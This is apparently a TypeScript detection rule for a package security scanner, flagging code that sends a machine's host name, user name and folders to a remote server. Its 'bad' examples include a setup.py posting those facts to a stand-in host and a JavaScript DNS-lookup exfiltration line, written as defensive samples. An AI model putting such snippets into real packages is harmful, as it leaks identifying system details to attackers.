import type { FileCheck } from '../../check.ts';

export const check: FileCheck = {
  id: 'data-handling-sysinfo-exfiltration',
  title: 'Tells a server who and where the user is',
  severity: 'high',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [506],
  why: `
    Host name, user name, folders and addresses tell an attacker which company a package has landed in. Packages that take
    the name of an internal one do exactly this, and then come back with more.`,
  fix: 'Remove it. Where usage is counted, say so, ask first, and leave out what identifies a person or a machine.',
  blindSpots: 'Facts that are collected in one file and sent from another are not connected.',
  wants: { acts: ['system-facts-sent'] },
  examples: {
    bad: [
      {
        'setup.py': `
          info = {"host": socket.gethostname(), "user": getpass.getuser(), "cwd": os.getcwd()}
          «requests.post("https://c.example.net/i", json=info)»`,
      },
      {
        'index.js': `
          const query = os.hostname() + '.' + os.userInfo().username;
          «dns.lookup(query + '.c.example.net', () => {})»;`,
      },
    ],
    good: [
      { 'crash.py': 'requests.post(url, json={"python": platform.python_version(), "os": platform.system()})\n' },
      { 'server.js': "console.log('listening on ' + os.hostname());\n" },
    ],
  },

  *find({ acts, span }) {
    for (const { start, end, message, confidence } of acts) {
      const milder = confidence === 'low' ? ({ severity: 'low' } as const) : {};
      yield { at: span(start, end), message, confidence, ...milder };
    }
  },
};
